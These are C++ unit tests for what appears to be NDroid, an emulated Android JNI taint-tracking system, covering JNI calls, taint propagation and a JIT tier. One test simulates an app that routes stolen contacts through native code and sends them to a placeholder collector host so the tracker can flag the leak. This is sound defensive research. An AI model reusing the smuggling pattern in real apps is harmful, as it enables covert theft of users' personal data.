