#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "common/taint_tags.h"
#include "jni/jnienv.h"

namespace ndroid::jni {
namespace {

using arm::Assembler;
using arm::IP;
using arm::LR;
using arm::PC;
using arm::R;
using dvm::Slot;

class JniFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kNativeCode = 0x10000;

  JniFixture()
      : cpu_(mem_, map_),
        kernel_(mem_, map_),
        dvm_(cpu_, 0x40000000, 0x40000, 0x34000000, 0x200000, 0x38000000,
             0x40000),
        env_(dvm_, kernel_) {
    map_.add("libapp.so", kNativeCode, 0x8000, mem::kRX);
    map_.add("[stack]", 0xBE000000, 0x100000, mem::kRW);
    cpu_.set_initial_sp(0xBE100000);
    kernel_.attach(cpu_);
  }

  GuestAddr install_native(const std::function<void(Assembler&)>& body) {
    Assembler a(kNativeCode + native_bump_);
    body(a);
    auto code = a.finish();
    const GuestAddr addr = kNativeCode + native_bump_;
    mem_.write_bytes(addr, code);
    native_bump_ += static_cast<u32>(code.size());
    return addr;
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  arm::Cpu cpu_;
  os::Kernel kernel_;
  dvm::Dvm dvm_;
  JniEnv env_;
  u32 native_bump_ = 0;
};

TEST_F(JniFixture, FindClassAndGetMethodId) {
  dvm::ClassObject* cls = dvm_.define_class("Lcom/demo/Util;");
  dvm::CodeBuilder cb;
  cb.return_void();
  dvm::Method* m = dvm_.define_method(cls, "ping", "V",
                                      dvm::kAccPublic | dvm::kAccStatic, 1,
                                      cb.take());
  const GuestAddr name = dvm_.data_cstr("com/demo/Util");
  const u32 jclass =
      cpu_.call_function(env_.fn("FindClass"), {env_.env_addr(), name});
  EXPECT_EQ(dvm_.class_at(jclass), cls);

  const GuestAddr mname = dvm_.data_cstr("ping");
  const u32 mid = cpu_.call_function(env_.fn("GetMethodID"),
                                     {env_.env_addr(), jclass, mname, 0});
  EXPECT_EQ(mid, m->guest_addr);

  const GuestAddr missing = dvm_.data_cstr("com/missing/Cls");
  EXPECT_EQ(cpu_.call_function(env_.fn("FindClass"),
                               {env_.env_addr(), missing}),
            0u);
}

TEST_F(JniFixture, NewStringUtfChainIsGuestVisible) {
  // Fig. 6: NewStringUTF Begin -> dvmCreateStringFromCstr Begin/End ->
  // NewStringUTF End. Both entries must appear as guest branch targets.
  const GuestAddr nof = env_.fn("NewStringUTF");
  const GuestAddr maf = dvm_.sym("dvmCreateStringFromCstr");
  bool saw_nof = false, saw_maf_from_nof = false;
  u32 maf_result = 0;
  cpu_.add_branch_hook([&](arm::Cpu& c, GuestAddr from, GuestAddr to) {
    if (to == nof) saw_nof = true;
    if (to == maf && from >= nof && from < nof + 0x40) {
      saw_maf_from_nof = true;
    }
    if (from >= maf && from < maf + 0x20 && to > nof && to < nof + 0x40) {
      maf_result = c.state().regs[0];  // real object address on MAF return
    }
  });

  const GuestAddr cstr = dvm_.data_cstr("http://sync.3g.qq.com/xpimlogin");
  const u32 iref =
      cpu_.call_function(nof, {env_.env_addr(), cstr});
  EXPECT_TRUE(saw_nof);
  EXPECT_TRUE(saw_maf_from_nof);
  ASSERT_TRUE(dvm_.irt().is_valid(iref));
  dvm::Object* obj = dvm_.irt().decode(iref);
  EXPECT_EQ(obj->utf(), "http://sync.3g.qq.com/xpimlogin");
  EXPECT_EQ(maf_result, obj->addr());
}

TEST_F(JniFixture, GetStringUTFCharsCopiesWithoutTaint) {
  dvm::Object* str = dvm_.new_string("1|Vincent|cx@gg.com");
  dvm_.heap().set_object_taint(*str, kTaintContacts);
  const u32 iref = dvm_.irt().add(str);
  const u32 buf = cpu_.call_function(env_.fn("GetStringUTFChars"),
                                     {env_.env_addr(), iref, 0});
  ASSERT_NE(buf, 0u);
  EXPECT_EQ(mem_.read_cstr(buf), "1|Vincent|cx@gg.com");
  // The DVM-side object taint does NOT follow into the native buffer —
  // TaintDroid's JNI gap (NDroid's hook repairs this).
}

TEST_F(JniFixture, PrimArrayRoundTrip) {
  const u32 arr_iref = cpu_.call_function(env_.fn("NewIntArray"),
                                          {env_.env_addr(), 4});
  ASSERT_TRUE(dvm_.irt().is_valid(arr_iref));
  dvm::Object* arr = dvm_.irt().decode(arr_iref);
  EXPECT_EQ(arr->length(), 4u);
  EXPECT_EQ(arr->elem_size(), 4u);

  EXPECT_EQ(cpu_.call_function(env_.fn("GetArrayLength"),
                               {env_.env_addr(), arr_iref}),
            4u);

  // SetIntArrayRegion(env, arr, 0, 4, buf): 5th arg on the native stack.
  const GuestAddr buf = dvm_.data_alloc(16);
  for (u32 i = 0; i < 4; ++i) mem_.write32(buf + 4 * i, (i + 1) * 11);
  cpu_.call_function(env_.fn("SetIntArrayRegion"),
                     {env_.env_addr(), arr_iref, 0, 4, buf});
  EXPECT_EQ(dvm_.heap().array_get(*arr, 3), 44u);

  const u32 elems = cpu_.call_function(env_.fn("GetIntArrayElements"),
                                       {env_.env_addr(), arr_iref, 0});
  ASSERT_NE(elems, 0u);
  EXPECT_EQ(mem_.read32(elems + 8), 33u);

  // Mutate the copy and release with mode 0 (copy back).
  mem_.write32(elems, 99);
  cpu_.call_function(env_.fn("ReleaseIntArrayElements"),
                     {env_.env_addr(), arr_iref, elems, 0});
  EXPECT_EQ(dvm_.heap().array_get(*arr, 0), 99u);
}

TEST_F(JniFixture, ObjectArrayElementAccess) {
  dvm::ClassObject* str_cls = dvm_.string_class();
  const u32 arr_iref = cpu_.call_function(
      env_.fn("NewObjectArray"),
      {env_.env_addr(), 2, dvm_.class_mirror(str_cls), 0});
  dvm::Object* s = dvm_.new_string("element");
  const u32 s_iref = dvm_.irt().add(s);
  cpu_.call_function(env_.fn("SetObjectArrayElement"),
                     {env_.env_addr(), arr_iref, 1, s_iref});
  const u32 got = cpu_.call_function(env_.fn("GetObjectArrayElement"),
                                     {env_.env_addr(), arr_iref, 1});
  EXPECT_EQ(dvm_.irt().decode(got), s);
}

TEST_F(JniFixture, FieldAccessThroughJni) {
  dvm::ClassObject* cls = dvm_.define_class("LAcct;");
  cls->add_instance_field("balance", 'I');
  cls->add_instance_field("owner", 'L');
  dvm::Object* obj = dvm_.heap().new_instance(cls);
  const u32 obj_iref = dvm_.irt().add(obj);

  const GuestAddr fname = dvm_.data_cstr("balance");
  const u32 fid = cpu_.call_function(
      env_.fn("GetFieldID"),
      {env_.env_addr(), dvm_.class_mirror(cls), fname, 0});

  cpu_.call_function(env_.fn("SetIntField"),
                     {env_.env_addr(), obj_iref, fid, 4200});
  EXPECT_EQ(obj->fields()[0].value, 4200u);
  EXPECT_EQ(cpu_.call_function(env_.fn("GetIntField"),
                               {env_.env_addr(), obj_iref, fid}),
            4200u);

  // Object field: store a string by iref, read it back as a new local ref.
  dvm::Object* s = dvm_.new_string("alice");
  const u32 s_iref = dvm_.irt().add(s);
  const GuestAddr oname = dvm_.data_cstr("owner");
  const u32 ofid = cpu_.call_function(
      env_.fn("GetFieldID"),
      {env_.env_addr(), dvm_.class_mirror(cls), oname, 0});
  cpu_.call_function(env_.fn("SetObjectField"),
                     {env_.env_addr(), obj_iref, ofid, s_iref});
  EXPECT_EQ(obj->fields()[1].value, s->addr());
  const u32 back = cpu_.call_function(env_.fn("GetObjectField"),
                                      {env_.env_addr(), obj_iref, ofid});
  EXPECT_EQ(dvm_.irt().decode(back), s);
}

TEST_F(JniFixture, StaticFieldAccess) {
  dvm::ClassObject* cls = dvm_.define_class("LCfg;");
  cls->add_static_field("flags", 'I');
  const GuestAddr fname = dvm_.data_cstr("flags");
  const u32 fid = cpu_.call_function(
      env_.fn("GetStaticFieldID"),
      {env_.env_addr(), dvm_.class_mirror(cls), fname, 0});
  cpu_.call_function(env_.fn("SetStaticIntField"),
                     {env_.env_addr(), dvm_.class_mirror(cls), fid, 7});
  EXPECT_EQ(cpu_.call_function(env_.fn("GetStaticIntField"),
                               {env_.env_addr(), dvm_.class_mirror(cls), fid}),
            7u);
}

TEST_F(JniFixture, CallStaticIntMethodFromNative) {
  dvm::ClassObject* cls = dvm_.define_class("LMath;");
  dvm::CodeBuilder cb;
  cb.add(0, 2, 3).return_value(0);
  dvm::Method* m = dvm_.define_method(
      cls, "plus", "III", dvm::kAccPublic | dvm::kAccStatic, 4, cb.take());

  const GuestAddr args = dvm_.data_alloc(8);
  mem_.write32(args, 40);
  mem_.write32(args + 4, 2);
  const u32 r = cpu_.call_function(
      env_.fn("CallStaticIntMethodA"),
      {env_.env_addr(), dvm_.class_mirror(cls), m->guest_addr, args});
  EXPECT_EQ(r, 42u);
}

TEST_F(JniFixture, CallObjectMethodReturnsLocalRef) {
  dvm::ClassObject* cls = dvm_.define_class("LProv;");
  dvm::CodeBuilder cb;
  cb.const_string(0, "device-contacts").return_value(0);
  dvm::Method* m = dvm_.define_method(
      cls, "fetch", "L", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
  const u32 r = cpu_.call_function(
      env_.fn("CallStaticObjectMethodV"),
      {env_.env_addr(), dvm_.class_mirror(cls), m->guest_addr, 0});
  ASSERT_TRUE(dvm_.irt().is_valid(r));
  EXPECT_EQ(dvm_.irt().decode(r)->utf(), "device-contacts");
}

TEST_F(JniFixture, CallVoidMethodOnInstance) {
  dvm::ClassObject* cls = dvm_.define_class("LSink;");
  cls->add_instance_field("last", 'I');
  dvm::CodeBuilder cb;
  // void set(this=v1, x=v2): this.last = x
  cb.iput(2, 1, 0).return_void();
  dvm::Method* m =
      dvm_.define_method(cls, "set", "VI", dvm::kAccPublic, 3, cb.take());
  dvm::Object* obj = dvm_.heap().new_instance(cls);
  const u32 obj_iref = dvm_.irt().add(obj);
  const GuestAddr args = dvm_.data_alloc(4);
  mem_.write32(args, 1234);
  cpu_.call_function(env_.fn("CallVoidMethodA"),
                     {env_.env_addr(), obj_iref, m->guest_addr, args});
  EXPECT_EQ(obj->fields()[0].value, 1234u);
}

TEST_F(JniFixture, NativeCodeUsesEnvTableIndirection) {
  // Native: jstring make(JNIEnv* env, jclass): resolves NewStringUTF from
  // the env table (env -> table -> fn) and calls it.
  const GuestAddr cstr = dvm_.data_cstr("from-table");
  const u32 idx = static_cast<u32>(JniFn::kNewStringUTF);
  const GuestAddr fn = install_native([&](Assembler& a) {
    a.push({R(4), LR});
    a.mov(R(4), R(0));                        // env
    a.ldr(IP, R(4), 0);                       // table
    a.ldr(IP, IP, static_cast<i32>(4 * idx)); // NewStringUTF
    a.mov(R(0), R(4));
    a.mov_imm32(R(1), cstr);
    a.blx(IP);
    a.pop({R(4), PC});
  });
  dvm::ClassObject* cls = dvm_.define_class("LTab;");
  dvm::Method* m = dvm_.define_native(
      cls, "make", "L", dvm::kAccPublic | dvm::kAccStatic, fn);
  const Slot r = dvm_.call(*m, {});
  dvm::Object* s = dvm_.heap().object_at(r.value);
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->utf(), "from-table");
}

TEST_F(JniFixture, ThrowNewChainSetsPendingException) {
  dvm::ClassObject* exc_cls = dvm_.define_class("Ljava/io/IOException;");
  const GuestAddr msg = dvm_.data_cstr("imei:354958031234567");

  const GuestAddr init_exc = env_.fn("ThrowNew");
  const GuestAddr init_exception = env_.symbols().at("initException");
  const GuestAddr maf = dvm_.sym("dvmCreateStringFromCstr");
  bool chain_init = false, chain_maf = false;
  cpu_.add_branch_hook([&](arm::Cpu&, GuestAddr from, GuestAddr to) {
    if (to == init_exception && from >= init_exc && from < init_exc + 0x40) {
      chain_init = true;
    }
    if (to == maf && from >= init_exception &&
        from < init_exception + 0x40) {
      chain_maf = true;
    }
  });

  cpu_.call_function(env_.fn("ThrowNew"),
                     {env_.env_addr(), dvm_.class_mirror(exc_cls), msg});
  EXPECT_TRUE(chain_init);
  EXPECT_TRUE(chain_maf);
  ASSERT_NE(dvm_.pending_exception, nullptr);
  dvm::Object* exc = dvm_.pending_exception;
  const dvm::Field* f = exc_cls->find_instance_field("message");
  ASSERT_NE(f, nullptr);
  dvm::Object* message =
      dvm_.heap().object_at(exc->fields()[f->index].value);
  ASSERT_NE(message, nullptr);
  EXPECT_EQ(message->utf(), "imei:354958031234567");

  // ExceptionOccurred / ExceptionClear round trip.
  const u32 exc_iref = cpu_.call_function(env_.fn("ExceptionOccurred"),
                                          {env_.env_addr()});
  EXPECT_EQ(dvm_.irt().decode(exc_iref), exc);
  cpu_.call_function(env_.fn("ExceptionClear"), {env_.env_addr()});
  EXPECT_EQ(dvm_.pending_exception, nullptr);
}

TEST_F(JniFixture, LocalAndGlobalRefs) {
  dvm::Object* s = dvm_.new_string("ref");
  const u32 local = dvm_.irt().add(s);
  const u32 global = cpu_.call_function(env_.fn("NewGlobalRef"),
                                        {env_.env_addr(), local});
  EXPECT_NE(local, global);
  cpu_.call_function(env_.fn("DeleteLocalRef"), {env_.env_addr(), local});
  EXPECT_FALSE(dvm_.irt().is_valid(local));
  EXPECT_TRUE(dvm_.irt().is_valid(global));
  EXPECT_EQ(dvm_.irt().decode(global), s);
}

TEST_F(JniFixture, GetObjectClass) {
  dvm::Object* s = dvm_.new_string("x");
  const u32 iref = dvm_.irt().add(s);
  const u32 jclass =
      cpu_.call_function(env_.fn("GetObjectClass"), {env_.env_addr(), iref});
  EXPECT_EQ(dvm_.class_at(jclass), dvm_.string_class());
}

TEST_F(JniFixture, LocalFramesReleaseRefs) {
  dvm::Object* outer_obj = dvm_.new_string("outer");
  const u32 outer = dvm_.irt().add(outer_obj);

  cpu_.call_function(env_.fn("PushLocalFrame"), {env_.env_addr(), 16});
  dvm::Object* inner_obj = dvm_.new_string("inner");
  const u32 inner = dvm_.irt().add(inner_obj);
  dvm::Object* survivor_obj = dvm_.new_string("survivor");
  const u32 survivor = dvm_.irt().add(survivor_obj);

  const u32 promoted = cpu_.call_function(env_.fn("PopLocalFrame"),
                                          {env_.env_addr(), survivor});
  // Refs created inside the frame are dead; the survivor got a new handle
  // in the enclosing frame; pre-existing refs are untouched.
  EXPECT_FALSE(dvm_.irt().is_valid(inner));
  EXPECT_FALSE(dvm_.irt().is_valid(survivor));
  ASSERT_TRUE(dvm_.irt().is_valid(promoted));
  EXPECT_EQ(dvm_.irt().decode(promoted), survivor_obj);
  EXPECT_TRUE(dvm_.irt().is_valid(outer));
}

TEST_F(JniFixture, PopWithoutPushFaults) {
  EXPECT_THROW(
      cpu_.call_function(env_.fn("PopLocalFrame"), {env_.env_addr(), 0}),
      GuestFault);
}

TEST_F(JniFixture, IsSameObjectComparesIdentity) {
  dvm::Object* s = dvm_.new_string("one");
  const u32 r1 = dvm_.irt().add(s);
  const u32 r2 = dvm_.irt().add(s);  // second handle, same object
  dvm::Object* t = dvm_.new_string("one");  // equal content, different object
  const u32 r3 = dvm_.irt().add(t);
  EXPECT_EQ(cpu_.call_function(env_.fn("IsSameObject"),
                               {env_.env_addr(), r1, r2}),
            1u);
  EXPECT_EQ(cpu_.call_function(env_.fn("IsSameObject"),
                               {env_.env_addr(), r1, r3}),
            0u);
}

TEST_F(JniFixture, ProcMapsRenderedInVfs) {
  ASSERT_TRUE(kernel_.vfs().exists("/proc/self/maps") ||
              kernel_.processes().empty());
  kernel_.create_process("com.maps.app");
  kernel_.map_region(kernel_.processes().back().pid,
                     {"libfoo.so", 0x50000000, 0x50002000, mem::kRX});
  const std::string maps = kernel_.vfs().content_str("/proc/self/maps");
  EXPECT_NE(maps.find("50000000-50002000 r-xp 00000000 libfoo.so"),
            std::string::npos);
}

TEST_F(JniFixture, Table2RoutingVvsA) {
  // Per Table II: Call*Method and Call*MethodV must route to dvmCallMethodV;
  // Call*MethodA to dvmCallMethodA.
  dvm::ClassObject* cls = dvm_.define_class("LRoute;");
  dvm::CodeBuilder cb;
  cb.return_void();
  dvm::Method* m = dvm_.define_method(
      cls, "f", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());

  const GuestAddr dvm_v = dvm_.sym("dvmCallMethodV");
  const GuestAddr dvm_a = dvm_.sym("dvmCallMethodA");
  int hits_v = 0, hits_a = 0;
  cpu_.add_branch_hook([&](arm::Cpu&, GuestAddr, GuestAddr to) {
    if (to == dvm_v) ++hits_v;
    if (to == dvm_a) ++hits_a;
  });

  cpu_.call_function(env_.fn("CallStaticVoidMethod"),
                     {env_.env_addr(), dvm_.class_mirror(cls),
                      m->guest_addr, 0});
  EXPECT_EQ(hits_v, 1);
  EXPECT_EQ(hits_a, 0);
  cpu_.call_function(env_.fn("CallStaticVoidMethodV"),
                     {env_.env_addr(), dvm_.class_mirror(cls),
                      m->guest_addr, 0});
  EXPECT_EQ(hits_v, 2);
  cpu_.call_function(env_.fn("CallStaticVoidMethodA"),
                     {env_.env_addr(), dvm_.class_mirror(cls),
                      m->guest_addr, 0});
  EXPECT_EQ(hits_a, 1);
}

}  // namespace
}  // namespace ndroid::jni
