// Table III coverage beyond NewStringUTF: the dvmCreateStringFromUnicode
// pair (NewString), object allocation (NewObject*), and object arrays as
// carriers of tainted strings back into the Java context.
#include <gtest/gtest.h>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;
using arm::LR;
using arm::PC;
using arm::R;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

TEST(Table3, NewStringFromUnicodeCarriesTaint) {
  // Native converts a tainted byte buffer into UTF-16 and wraps it via
  // NewString -> dvmCreateStringFromUnicode; the new String object must be
  // tainted by the NOF/MAF hook (kind: unicode, length in chars).
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;

  apps::NativeLibBuilder lib(device, "libuni.so");
  auto& a = lib.a();
  const GuestAddr tainted_src = lib.buffer(32);
  const GuestAddr utf16 = lib.buffer(32);

  // jstring wrap(JNIEnv*, jclass): copies two UTF-16 chars from a tainted
  // source buffer (LDRH/STRH, so the tracer carries the taint byte-exactly)
  // and calls NewString(env, buf, 2).
  const GuestAddr fn = lib.fn();
  a.push({R(4), LR});
  a.mov(R(4), R(0));  // save env
  a.mov_imm32(R(0), tainted_src);
  a.mov_imm32(R(1), utf16);
  a.ldrh(R(2), R(0), 0);
  a.strh(R(2), R(1), 0);
  a.ldrh(R(2), R(0), 2);
  a.strh(R(2), R(1), 2);
  a.mov(R(0), R(4));   // env; r1 = utf16 already
  a.mov_imm(R(2), 2);  // length in chars
  a.call(device.jni.fn("NewString"));
  a.pop({R(4), PC});
  lib.install();

  dvm::ClassObject* cls = dvm.define_class("Luni/App;");
  Method* wrap =
      dvm.define_native(cls, "wrap", "L", kAccPublic | kAccStatic, fn);

  // The source buffer holds "Hi" in UTF-16 and is tainted (as if filled
  // from a tainted SMS read).
  device.memory.write16(tainted_src, 'H');
  device.memory.write16(tainted_src + 2, 'i');
  nd.taint_engine().map().set_range(tainted_src, 4, kTaintSms);

  const dvm::Slot r = dvm.call(*wrap, {});
  dvm::Object* s = dvm.heap().object_at(r.value);
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->utf(), "Hi");
  EXPECT_EQ(dvm.heap().object_taint(*s), kTaintSms);
  EXPECT_TRUE(nd.log().contains("NewString Begin"));
  EXPECT_TRUE(nd.log().contains("NewString End"));
}

TEST(Table3, NewObjectAllocatesAndRegistersIref) {
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* box = dvm.define_class("Ltable3/Box;");
  box->add_instance_field("data", 'L');

  const u32 iref = device.cpu.call_function(
      device.jni.fn("NewObject"),
      {device.dvm.jnienv_addr(), dvm.class_mirror(box), 0, 0});
  ASSERT_TRUE(dvm.irt().is_valid(iref));
  dvm::Object* obj = dvm.irt().decode(iref);
  EXPECT_EQ(obj->clazz(), box);
  EXPECT_TRUE(nd.log().contains("NewObject Begin"));
}

TEST(Table3, ObjectArraySmugglesTaintedString) {
  // Native creates a String[1], stores a String built from tainted bytes,
  // returns the array; Java reads element 0 and sends it. The chain is
  // NewObjectArray (dvmAllocArrayByClass) + NewStringUTF + SetObjectArray-
  // Element, then Java-side aget -> sink.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;

  apps::NativeLibBuilder lib(device, "libarr.so");
  auto& a = lib.a();
  const GuestAddr secret_buf = lib.buffer(32);

  // jobjectArray make(JNIEnv*, jclass, jstring secret)
  const GuestAddr fn = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));  // env
  // p = GetStringUTFChars(secret) ; strcpy(secret_buf, p)
  a.mov(R(1), R(2));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.mov(R(1), R(0));
  a.mov_imm32(R(0), secret_buf);
  a.call(device.libc.fn("strcpy"));
  // arr = NewObjectArray(env, 1, String.class, 0)
  a.mov(R(0), R(4));
  a.mov_imm(R(1), 1);
  a.mov_imm32(R(2), dvm.class_mirror(dvm.string_class()));
  a.mov_imm(R(3), 0);
  a.call(device.jni.fn("NewObjectArray"));
  a.mov(R(5), R(0));  // arr iref
  // s = NewStringUTF(env, secret_buf)
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), secret_buf);
  a.call(device.jni.fn("NewStringUTF"));
  a.mov(R(6), R(0));
  // SetObjectArrayElement(env, arr, 0, s)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.mov(R(3), R(6));
  a.call(device.jni.fn("SetObjectArrayElement"));
  a.mov(R(0), R(5));
  a.pop({R(4), R(5), R(6), PC});
  lib.install();

  dvm::ClassObject* app = dvm.define_class("Ltable3/App;");
  Method* make =
      dvm.define_native(app, "make", "LL", kAccPublic | kAccStatic, fn);
  Method* src = device.framework.contacts->find_method("queryContacts");
  Method* sink = device.framework.network->find_method("send");

  CodeBuilder cb;
  cb.invoke(src, {})
      .move_result(0)
      .invoke(make, {0})
      .move_result(1)   // the array
      .const_imm(2, 0)
      .aget(3, 1, 2)    // element 0: the smuggled String
      .const_string(4, "arr.collect.example.com")
      .invoke(sink, {4, 3})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 5, cb.take());
  dvm.call(*entry, {});

  EXPECT_EQ(device.kernel.network().bytes_sent_to("arr.collect.example.com"),
            "1|Vincent|cx@gg.com");
  ASSERT_FALSE(device.framework.leaks().empty());
  EXPECT_EQ(device.framework.leaks()[0].taint, kTaintContacts);
}

TEST(Table3, NewPrimitiveArrayVariants) {
  Device device;
  NDroid nd(device);
  struct Case {
    const char* fn;
    u32 elem_size;
  };
  for (const Case& c : {Case{"NewIntArray", 4}, Case{"NewByteArray", 1},
                        Case{"NewCharArray", 2}, Case{"NewBooleanArray", 1}}) {
    const u32 iref = device.cpu.call_function(
        device.jni.fn(c.fn), {device.dvm.jnienv_addr(), 5});
    ASSERT_TRUE(device.dvm.irt().is_valid(iref)) << c.fn;
    const dvm::Object* arr = device.dvm.irt().decode(iref);
    EXPECT_EQ(arr->length(), 5u) << c.fn;
    EXPECT_EQ(arr->elem_size(), c.elem_size) << c.fn;
  }
}

}  // namespace
}  // namespace ndroid::core
