// Template JIT tier: host-code compilation and version-fenced direct links
// (compile + link + patch counters), the stale-chain hazard under emitted
// code (a self-modifying store into a *linked successor* must void the
// patched host edge), code-arena exhaustion (flush-and-recompile at the
// trampoline safe point), strict W^X mode, and ablation parity with the
// threaded tier. Hosts without host-code emission exercise the degrade
// path: set_jit_enabled is a no-op and everything rides the threaded tier.
#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "arm/cpu.h"
#include "core/ndroid.h"
#include "core/report.h"

namespace ndroid {
namespace {

using arm::Assembler;
using arm::Cond;
using arm::Cpu;
using arm::Label;
using arm::R;

class JitFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  // Separate page from kCode so per-page invalidation of the patched
  // subroutine leaves the caller's blocks translated.
  static constexpr GuestAddr kTail = kCode + 0x1000;

  JitFixture() : cpu_(mem_, map_) {
    // RWX so the self-modifying-code tests can store into code pages.
    map_.add("code", kCode, 0x4000, mem::kRWX);
    map_.add("data", 0x20000, 0x8000, mem::kRW);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
    mem_.set_tlb_enabled(true);
    cpu_.set_jit_enabled(true);
  }

  u32 run(Assembler& a, const std::vector<u32>& args = {}) {
    mem_.write_bytes(kCode, a.finish());
    return cpu_.call_function(kCode, args);
  }

  static u32 encode(void (*emit)(Assembler&)) {
    Assembler p(0);
    emit(p);
    const std::vector<u8>& bytes = p.finish();
    return static_cast<u32>(bytes[0]) | (static_cast<u32>(bytes[1]) << 8) |
           (static_cast<u32>(bytes[2]) << 16) |
           (static_cast<u32>(bytes[3]) << 24);
  }

  /// The mixed workload every mode variant below must agree on: ALU, loads
  /// and stores through the data page, and a counted loop. The accumulator
  /// round-trips through memory every iteration (str then ldr feeds the
  /// next add), so a wrong load or store changes the result. Each iteration
  /// adds 8: run(a, {n}) == n * 8.
  static void emit_workload(Assembler& a) {
    Label loop, done;
    a.mov_imm(R(1), 0);
    a.mov_imm32(R(2), 0x20000);
    a.bind(loop);
    a.cmp_imm(R(0), 0);
    a.b(done, Cond::kEQ);
    a.add_imm(R(1), R(1), 3);
    a.str(R(1), R(2), 4);
    a.ldr(R(3), R(2), 4);
    a.add_imm(R(1), R(3), 5);
    a.sub_imm(R(0), R(0), 1);
    a.b(loop);
    a.bind(done);
    a.mov(R(0), R(1));
    a.ret();
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

TEST_F(JitFixture, UnavailableHostDegradesToThreaded) {
  // Meaningful on NDROID_NO_JIT / non-x86-64 builds, a tautology otherwise:
  // the enable flag only ever arms when host code can actually run.
  if (!Cpu::jit_available()) {
    EXPECT_FALSE(cpu_.jit_enabled());
    Assembler a(kCode);
    emit_workload(a);
    EXPECT_EQ(run(a, {100}), 800u);
    EXPECT_EQ(core::collect_perf(cpu_).jit_blocks, 0u);
  } else {
    EXPECT_TRUE(cpu_.jit_enabled());
  }
}

TEST_F(JitFixture, HotLoopCompilesAndFollowsHostLinks) {
  if (!Cpu::jit_available()) GTEST_SKIP() << "no host code emission";
  Assembler a(kCode);
  emit_workload(a);
  EXPECT_EQ(run(a, {1000}), 8000u);

  const core::PerfCounters perf = core::collect_perf(cpu_);
  EXPECT_GT(perf.jit_blocks, 0u);
  EXPECT_GT(perf.jit_bytes, 0u);
  // The loop's back edge gets patched once and then followed natively on
  // every iteration.
  EXPECT_GT(perf.jit_patches, 0u);
  EXPECT_GT(perf.jit_links, perf.jit_patches);
  // Linked transitions still count as cache hits so hit rates stay
  // comparable with the other tiers.
  EXPECT_GT(perf.tb_hit_rate(), 0.9);
}

TEST_F(JitFixture, SelfModifyingStoreIntoLinkedSuccessorUnlinksEdge) {
  if (!Cpu::jit_available()) GTEST_SKIP() << "no host code emission";
  // The stale-chain hazard under emitted code: link caller -> tail as a
  // host jump, then store over the tail's first instruction. The version
  // fence in the emitted link tail must bounce the transition out to a
  // fresh translation instead of running stale host code.
  Assembler t(kTail);
  t.add_imm(R(0), R(0), 1);  // patched at runtime to add r0, r0, #100
  t.ret();
  mem_.write_bytes(kTail, t.finish());

  const u32 patch_word =
      encode([](Assembler& p) { p.add_imm(R(0), R(0), 100); });

  Assembler a(kCode);
  Label loop, skip;
  a.push({R(4), arm::LR});
  a.mov_imm(R(0), 0);
  a.mov_imm(R(4), 4);  // iteration counter: 4, 3, 2, 1
  a.mov_imm32(R(2), patch_word);
  a.mov_imm32(R(3), kTail);
  a.bind(loop);
  a.bl_abs(kTail);  // edge under test; linked by the second traversal
  a.cmp_imm(R(4), 2);
  a.b(skip, Cond::kNE);
  a.str(R(2), R(3));  // third iteration: overwrite the linked successor
  a.bind(skip);
  a.sub_imm(R(4), R(4), 1, /*s=*/true);
  a.b(loop, Cond::kNE);
  a.pop({R(4), arm::LR});
  a.ret();

  // Iterations 1-3 run the original tail (+1 each); the store at the end of
  // iteration 3 rewrites it, so iteration 4 must execute +100:
  //   3 * 1 + 100 = 103.  A stale host edge would yield 4.
  EXPECT_EQ(run(a), 103u);

  const core::PerfCounters perf = core::collect_perf(cpu_);
  EXPECT_GT(perf.jit_patches, 0u);     // the edge really was host-linked
  EXPECT_GT(perf.tb_invalidated, 0u);  // and the store really killed it
}

TEST_F(JitFixture, ArenaExhaustionFlushesAndRecompiles) {
  if (!Cpu::jit_available()) GTEST_SKIP() << "no host code emission";
  // An arena too small for the working set forces the exhaustion protocol:
  // flush_pending -> (safe point) flush + reset + new generation ->
  // recompile on demand. Results must not change.
  cpu_.set_jit_config(/*arena_bytes=*/1024, /*wx=*/false);
  Assembler a(kCode);
  emit_workload(a);
  EXPECT_EQ(run(a, {1000}), 8000u);

  const core::PerfCounters perf = core::collect_perf(cpu_);
  EXPECT_GT(perf.jit_arena_flushes, 0u);
  // Execution made progress regardless of how often the arena recycled
  // (blocks that never fit ride the threaded tier via their tombstones).
  EXPECT_EQ(cpu_.call_function(kCode, {10}), 80u);
}

TEST_F(JitFixture, StrictWxModeExecutes) {
  if (!Cpu::jit_available()) GTEST_SKIP() << "no host code emission";
  cpu_.set_jit_config(/*arena_bytes=*/1u << 20, /*wx=*/true);
  Assembler a(kCode);
  emit_workload(a);
  EXPECT_EQ(run(a, {500}), 4000u);
  EXPECT_GT(core::collect_perf(cpu_).jit_blocks, 0u);
}

TEST_F(JitFixture, AblationMatchesThreadedTier) {
  Assembler a(kCode);
  emit_workload(a);
  const u32 jit_result = run(a, {123});

  cpu_.set_jit_enabled(false);
  const u64 links_before = core::collect_perf(cpu_).jit_links;
  const u32 threaded_result = cpu_.call_function(kCode, {123});
  EXPECT_EQ(threaded_result, jit_result);
  // The disabled tier must not touch the host-linking machinery at all.
  EXPECT_EQ(core::collect_perf(cpu_).jit_links, links_before);

